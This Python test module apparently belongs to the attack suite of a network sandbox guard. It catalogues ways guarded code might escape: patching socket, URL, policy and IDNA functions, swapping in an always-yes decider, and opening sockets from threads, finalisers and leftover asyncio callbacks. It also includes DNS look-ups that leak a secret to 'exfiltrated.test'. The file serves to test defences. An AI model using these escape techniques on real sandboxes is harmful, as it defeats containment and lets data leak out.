"""Functions below the network part of the guard, replaced by the subject."""

from __future__ import annotations

import socket
import sys

from tests.guard.attacks import namespaces, peer_names  # noqa: F401 - loaded here, used in the attacked process
from tests.guard.attacks.families.contexts_and_threads import hold_contexts
from tests.guard.attacks.kit import BROKEN, Ground, settle, settle_on_loop
from tests.guard.attacks.network import (
    IN_TOWN,
    LIMIT,
    NETWORK,
    REFUSED,
    ask,
    dial,
    guarded,
    network_attack,
    network_attacks_of,
    other,
    other_url,
    peers,
    url,
)


def reach(ground: Ground) -> object:
    return ask(dial(other(ground)))


def fetch(ground: Ground) -> object:
    import urllib.request

    return urllib.request.urlopen(other_url(ground), timeout=LIMIT).read()


@network_attack("the functions of socket that convert addresses always name a permitted one", expect=NETWORK)
def conversions(ground: Ground) -> object:
    import _socket

    for module in (socket, _socket):
        for name in ("inet_aton", "inet_pton", "inet_ntoa", "inet_ntop", "htons", "gethostname"):
            setattr(module, name, lambda *_: b"\x7f\0\0\1")
    return reach(ground)


@network_attack("the functions that read URLs always read a permitted one", expect=BROKEN)
def url_functions(ground: Ground) -> object:
    import ipaddress
    import urllib.parse

    permitted = urllib.parse.urlsplit(url(ground))
    originals = urllib.parse.urlsplit, urllib.parse.urlparse
    for name in ("urlsplit", "urlparse", "unquote", "quote"):
        setattr(urllib.parse, name, lambda *_, **__: permitted)
    ipaddress.ip_address = ipaddress.IPv4Address = lambda *_: "127.0.0.1"
    try:
        return reach(ground)
    finally:
        urllib.parse.urlsplit, urllib.parse.urlparse = originals


@network_attack("the functions of the policy that read targets always read a permitted one", expect=BROKEN)
def policy_functions(ground: Ground) -> object:
    for name, module in list(sys.modules.items()):
        if name.startswith("democrai_sandbox.policy"):
            found = vars(module).get("parse_request_url")
            if found is not None:
                answer = found(url(ground))
                for key in ("parse_request_url", "parse_request", "parse_socket", "normalise_host", "host_key"):
                    if key in vars(module):
                        vars(module)[key] = lambda *_, answer=answer, **__: answer
    return fetch(ground)


def town(ground: Ground) -> list[tuple[str, str]]:
    return [("receive", f"http://api.test:{peers(ground).town}/allowed")]


def look_up(name: object) -> None:
    try:
        socket.getaddrinfo(name, 80)
    except (socket.gaierror, UnicodeError):
        pass


def idna_replaced(ground: Ground) -> None:
    """The library that encodes names says that the name is the machine's own."""
    import idna

    idna.alabel = idna.encode = lambda *_, **__: b"localhost"
    look_up("the-secret-4711-ü.exfiltrated.test")
    look_up("the-secret-4711-ü.exfiltrated.test".encode())


def codec_changes(ground: Ground) -> None:
    """The codec of the interpreter says that it is a permitted name, and another one the next time."""
    import encodings.idna

    answers = [b"localhost"] * 2
    kept = encodings.idna.ToASCII
    encodings.idna.ToASCII = lambda label: answers.pop() if answers else b"the-secret-4711"
    for count in range(5):
        answers[:] = [b"localhost"] * count
        try:
            look_up("ünder")
        except (PermissionError, ValueError) as error:
            ground.errors[:] = [error]
    encodings.idna.ToASCII = kept


network_attacks_of(
    {"idna": idna_replaced, "codec": codec_changes},
    "what encodes international names is replaced: {}",
    rules=town,
    expect=REFUSED.quietly,
    group="names_",
    **IN_TOWN,
)


class Yes:
    """An observer and a decider of the subject's own."""

    def decide(self, question: object) -> bool:
        return True

    def observe(self, endpoint: object) -> None:
        pass


@network_attack("the guard is configured anew, with a decider of the subject", expect=BROKEN)
def configured_anew(ground: Ground) -> object:
    if guarded(ground):
        import democrai_sandbox

        for options in ({"decider": Yes()}, {"observer": Yes()}, {}):
            ground.attempt(lambda: democrai_sandbox.configure_guard(**options))
    return reach(ground)


class Decider:
    """A decider of the host that says no, and counts."""

    def decide(self, question: object) -> bool:
        return False


class Observer:
    """An observer of the host."""

    seen = ()

    def observe(self, endpoint: object) -> None:
        Observer.seen = (*Observer.seen, endpoint)


@network_attack(
    "the host's decider is changed by the subject, and the running guard told that access has changed",
    expect=BROKEN,
    configure=lambda ground: {"decider": Decider()},
)
def approvals_changed(ground: Ground) -> object:
    Decider.decide = lambda self, question: True
    if guarded(ground):
        import democrai_sandbox

        ground.attempt(democrai_sandbox.guard.access_changed)
    return reach(ground)


@network_attack(
    "a class of the host's that observes endpoints is changed to reach out unguarded",
    expect=BROKEN,
    configure=lambda ground: {"observer": Observer()},
    rules=lambda ground: [("connect", f"127.0.0.1:{peers(ground).web}")],
)
def observer_changed(ground: Ground) -> None:
    """What the observer does, it does as the host."""

    def observe(self: object, endpoint: object) -> None:
        ground.attempt(lambda: reach(ground))

    Observer.observe = observe
    if not guarded(ground):
        observe(None, None)
        return
    socket.create_connection(("127.0.0.1", peers(ground).web)).close()


def in_thread(ground: Ground, start) -> None:
    start(lambda: ground.attempt(lambda: reach(ground)))
    settle(ground)


def raw_thread(ground: Ground) -> None:
    import _thread

    in_thread(ground, lambda work: _thread.start_new_thread(work, ()))


def timer(ground: Ground) -> None:
    import threading

    in_thread(ground, lambda work: threading.Timer(0, work).start())


def finaliser(ground: Ground) -> None:
    class Bomb:
        def __del__(self) -> None:
            ground.attempt(lambda: reach(ground))

    ground.held.bomb = Bomb()


def weak_callback(ground: Ground) -> None:
    import weakref

    class Thing:
        pass

    ground.held.bomb = Thing()
    ground.held.weak = weakref.ref(ground.held.bomb, lambda _: ground.attempt(lambda: reach(ground)))


def drop(ground: Ground) -> None:
    import gc

    ground.held.bomb = None
    gc.collect()


network_attacks_of(
    {
        "empty_context": lambda ground: __import__("contextvars").Context().run(reach, ground),
        "host_context": lambda ground: ground.held.empty.run(reach, ground),
        "host_copy": lambda ground: ground.held.copy.run(reach, ground),
        "raw_thread": raw_thread,
        "timer": timer,
    },
    "the context is left, and a socket opened: {}",
    group="context_",
    prepare=hold_contexts,
)
network_attacks_of(
    {"finaliser": finaliser, "weak_callback": weak_callback},
    "something that is left behind opens a socket when the host drops it: {}",
    group="left_",
    then=drop,
)


async def callback(ground: Ground) -> None:
    import asyncio

    asyncio.get_running_loop().call_later(0.02, lambda: ground.attempt(lambda: reach(ground)))


async def reading_callback(ground: Ground) -> None:
    """A callback for a descriptor is left with the host's loop."""
    import asyncio

    mine, ground.held.end = socket.socketpair()
    ground.held.mine = mine
    loop = asyncio.get_running_loop()

    def ready() -> None:
        loop.remove_reader(mine)
        ground.attempt(lambda: reach(ground))

    loop.add_reader(mine, ready)


async def protocol_left(ground: Ground) -> None:
    """A protocol of the subject is called by the host's loop when something comes."""
    import asyncio

    mine, ground.held.end = socket.socketpair()
    mine.setblocking(False)

    class Left(asyncio.Protocol):
        def data_received(self, data: bytes) -> None:
            ground.attempt(lambda: reach(ground))

    ground.held.left = await asyncio.get_running_loop().create_connection(Left, sock=mine)


async def server_left(ground: Ground) -> None:
    import asyncio

    async def serve(reader, writer) -> None:
        ground.attempt(lambda: reach(ground))

    ground.held.server = await asyncio.start_server(serve, "127.0.0.1", 0)
    ground.held.where = ground.held.server.sockets[0].getsockname()


async def strike(ground: Ground) -> None:
    """The host goes on, and with it its loop."""
    if hasattr(ground.held, "end"):
        ground.held.end.send(b"x")
    if hasattr(ground.held, "where"):
        ground.held.visitor = socket.create_connection(ground.held.where)
    await settle_on_loop(ground)


network_attacks_of(
    {
        "call_later": callback,
        "add_reader": reading_callback,
        "protocol": protocol_left,
        "server": server_left,
    },
    "something that is left with the host's loop opens a socket later: {}",
    group="loop_",
    then=strike,
)
